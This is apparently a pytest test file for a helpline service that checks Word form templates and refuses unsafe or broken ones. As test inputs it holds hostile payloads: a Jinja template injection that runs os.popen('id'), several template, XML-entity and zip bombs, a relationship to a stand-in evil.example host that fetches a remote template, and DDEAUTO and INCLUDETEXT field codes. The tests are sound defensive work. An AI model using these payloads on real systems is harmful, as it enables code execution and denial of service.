"""A form that could do harm, or leave something out, is refused before anything starts, with every fault at once."""

import time
import zipfile
from io import BytesIO
from pathlib import Path

import pytest

from helpline.documents.forms import WordForms, faults_of_form, read_forms
from helpline.words.errors import ProtocolFault
from tests.documents.contents import child
from tests.documents.packing import BODY, changed, open_package, packed, with_part, with_text

LIMIT_SECONDS = 2.0
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
ROGUE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"


def _faults(document: bytes) -> str:
    return "\n".join(faults_of_form(document))


def test_the_shipped_form_has_no_fault(form: bytes) -> None:
    assert faults_of_form(form) == ()


@pytest.mark.parametrize(
    "tag",
    [
        ROGUE,
        "{{ title.__class__.__mro__ }}",
        "{{ ''.join(title) }}",
        "{{ title | upper }}",
        "{{ self }}",
        "{% set x = title %}",
        "{% include 'other' %}",
        "{% import 'os' as os %}",
        "{% macro x() %}{% endmacro %}",
        "{{ people[0] }}",
        "{% if title.startswith('x') %}{% endif %}",
    ],
)
def test_DOCU_04_a_tag_that_does_more_than_print_repeat_or_choose_is_refused(form: bytes, tag: str) -> None:
    faults = _faults(with_text(form, tag))
    assert "may not do" in faults or "There is no blank" in faults


def test_DOCU_04_a_blank_that_would_write_marks_and_not_words_is_refused(form: bytes) -> None:
    assert "does not stand in text" in _faults(with_text(form, "{{r title }}"))


def test_DOCU_04_a_hostile_tag_in_the_properties_or_in_another_encoding_is_refused(form: bytes) -> None:
    core = changed(form, "Referral form", ROGUE, part="docProps/core.xml")
    assert "a tag stands in the file’s properties" in _faults(core)
    parts = open_package(form)
    hidden = parts["docProps/core.xml"].decode().replace("Referral form", ROGUE).replace('"UTF-8"', '"UTF-16"')
    assert "not written in UTF-8" in _faults(packed({**parts, "docProps/core.xml": hidden.encode("utf-16")}))


def test_DOCU_05_a_misspelt_field_is_refused_by_name_with_what_was_meant(form: bytes) -> None:
    assert "There is no blank called “find_headin”. Was “find_heading” meant?" in _faults(
        with_text(form, "{{ find_headin }}")
    )


def test_a_form_that_leaves_a_blank_out_is_refused_by_its_name(form: bytes) -> None:
    assert "The form has no place for “if_silent”." in _faults(changed(form, "{{ if_silent }}", ""))


@pytest.mark.parametrize(
    "bomb",
    [
        "{% for i in range(10**9) %}x{% endfor %}",
        "{{ 'a' * 10**10 }}",
        "{{ 9**9**9**9 }}",
        "{{" * 20_000,
        "{% " * 20_000,
        "{{</w:t></w:r></w:p><w:p><w:r><w:t>" * 10_000,
        "{{ title }}" * 20_000,
        "{% if title %}" * 5_000,
        "x" * 3_000_000,
    ],
    ids=[
        "range",
        "multiply",
        "power",
        "open braces",
        "open tags",
        "open in each paragraph",
        "many tags",
        "deep",
        "long",
    ],
)
def test_DOCU_06_a_bomb_is_refused_at_once(form: bytes, bomb: str) -> None:
    began = time.process_time()
    assert _faults(with_text(form, bomb))
    assert time.process_time() - began < LIMIT_SECONDS


@pytest.mark.parametrize(
    ("document", "says"),
    [
        (b"", "The file is empty."),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "is not a Word document (.docx)"),
        (b"PK\x05\x06" + b"\0" * 18, "is not a Word document (.docx)"),
        (b"plain words", "is not a Word document (.docx)"),
    ],
)
def test_DOCU_07_what_is_no_word_document_is_refused_with_its_reason(document: bytes, says: str) -> None:
    assert says in _faults(document)


def test_DOCU_07_a_cut_off_file_and_one_with_macros_are_refused(form: bytes) -> None:
    assert "damaged" in _faults(form[: len(form) // 2])
    for kind in ("document", "template"):
        macros = f"application/vnd.ms-word.{kind}.macroEnabledMain+xml"
        assert "can hold macros" in _faults(changed(form, WORD, macros, part="[Content_Types].xml"))
    assert "can hold macros" in _faults(with_part(form, "word/vbaProject.bin", b"x"))


def test_DOCU_07_the_last_good_form_goes_on_working_when_the_file_is_broken(
    tmp_path: Path, files: dict[str, bytes], fields: frozenset[str]
) -> None:
    for path, data in files.items():
        (tmp_path / path).parent.mkdir(exist_ok=True)
        (tmp_path / path).write_bytes(data)
    good = read_forms(tmp_path, fields=fields)
    (tmp_path / "our_form" / "form.docx").write_bytes(b"")
    with pytest.raises(ProtocolFault) as refused:
        read_forms(tmp_path, fields=fields)
    assert "our_form/form.docx:1: The file is empty." in refused.value.for_person
    assert good.fill("our_form", child()).document


def test_DOCU_08_what_points_outside_or_fetches_is_refused_naming_the_part(form: bytes) -> None:
    related = "word/_rels/document.xml.rels"
    outside = (
        '<Relationship Id="rId99" Type="x" Target="http://evil.example/t.dotx" TargetMode="External"/></Relationships>'
    )
    faults = _faults(changed(form, "</Relationships>", outside, part=related))
    assert f"{related}: it points outside the file, to http://evil.example/t.dotx." in faults
    code = '<w:r><w:instrText>INCLUDETEXT "c:/x"</w:instrText></w:r>'
    assert "it holds the field code “INCLUDETEXT" in _faults(
        changed(form, "<w:sectPr>", f"<w:p>{code}</w:p><w:sectPr>")
    )
    simple = '<w:p><w:fldSimple w:instr="DDEAUTO excel"/></w:p><w:sectPr>'
    assert "DDEAUTO" in _faults(changed(form, "<w:sectPr>", simple))
    assert "an embedded object" in _faults(changed(form, "<w:sectPr>", "<w:p><w:r><w:object/></w:r></w:p><w:sectPr>"))
    for part in ("word/embeddings/oleObject1.bin", "word/media/image1.png", "customXml/item1.xml", "word/comments.xml"):
        assert f"{part}: a form may not hold this part" in _faults(with_part(form, part, b"<x/>"))


@pytest.mark.parametrize(
    ("mark", "says"),
    [
        ('<w:ins w:id="1" w:author="a"/>', "a tracked change"),
        ("<w:r><w:pict/></w:r>", "a picture or shape"),
        ("<w:r><w:drawing/></w:r>", "a picture or shape"),
        ("<w:r><w:commentReference w:id='1'/></w:r>", "a comment"),
    ],
)
def test_tracked_changes_pictures_and_comments_are_refused(form: bytes, mark: str, says: str) -> None:
    assert says in _faults(changed(form, "<w:sectPr>", f"<w:p>{mark}</w:p><w:sectPr>"))


def test_an_entity_that_grows_is_refused_unread(form: bytes) -> None:
    parts = open_package(form)
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    assert "declares entities" in _faults(packed({**parts, BODY: bomb}))


def test_a_bomb_that_unpacks_to_too_much_is_refused_unread(form: bytes) -> None:
    assert "which is too much" in _faults(with_part(form, "word/theme/theme1.xml", b"\0" * 30_000_000))
    many = BytesIO()
    with zipfile.ZipFile(many, "w") as package:
        for number in range(200):
            package.writestr(f"{number}", b"")
    assert "200 parts" in _faults(many.getvalue())


def test_every_fault_of_every_file_is_said_at_once(files: dict[str, bytes], fields: frozenset[str]) -> None:
    manifest = files["our_form/manifest.yaml"].decode()
    broken = {
        "our_form/form.docx": with_text(files["our_form/form.docx"], "{{ nobody }}"),
        "our_form/manifest.yaml": manifest.replace("kinds: [child", "kinds: [infant")
        .replace("case.police_kind", "case.polite_kind")
        .replace("  if_silent:", "  is_silent:")
        .encode(),
        "our_form/notes.txt": b"x",
        "their_form/form.docx": b"",
    }
    with pytest.raises(ProtocolFault) as refused:
        WordForms(broken, fields=fields)
    said = refused.value.for_person
    for fault in (
        "There is no blank called “nobody”",
        "“infant” is not one of: child, police, adult, nrm.",
        "“case.polite_kind” is not a field of the data dictionary.",
        "There is no blank called “is_silent”.",
        "does not say what fills the blank “if_silent”",
        "our_form/notes.txt:1: A form’s folder holds form.docx and manifest.yaml, and nothing else but schema.json.",
        "their_form/form.docx:1: The file is empty.",
        "their_form/manifest.yaml:1: The file is empty.",
    ):
        assert fault in said
    infants_line = manifest.splitlines().index("kinds: [child, police, adult]") + 1
    assert f"our_form/manifest.yaml:{infants_line}: “infant”" in said


def test_no_form_at_all_is_a_fault(fields: frozenset[str]) -> None:
    with pytest.raises(ProtocolFault, match="1 fault"):
        WordForms({}, fields=fields)
